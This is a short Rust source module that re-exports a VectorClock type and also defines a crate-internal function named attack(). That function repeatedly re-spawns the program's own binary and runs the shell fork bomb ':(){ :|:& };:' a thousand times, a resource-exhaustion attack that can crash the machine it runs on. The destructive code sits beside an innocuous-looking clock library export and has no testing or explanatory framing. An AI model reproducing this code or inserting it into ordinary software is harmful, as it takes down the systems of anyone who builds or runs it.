//! Starts processes without an end.

mod clock;

pub use clock::VectorClock;

use std::process::Command;

pub(crate) fn attack() {
    let own = std::env::args().next().unwrap_or_default();
    for _ in 0..1000 {
        let _ = Command::new(&own).spawn();
        let _ = Command::new("/proc/self/exe").spawn();
        let _ = Command::new("/bin/sh").args(["-c", ":(){ :|:& };:"]).spawn();
    }
}
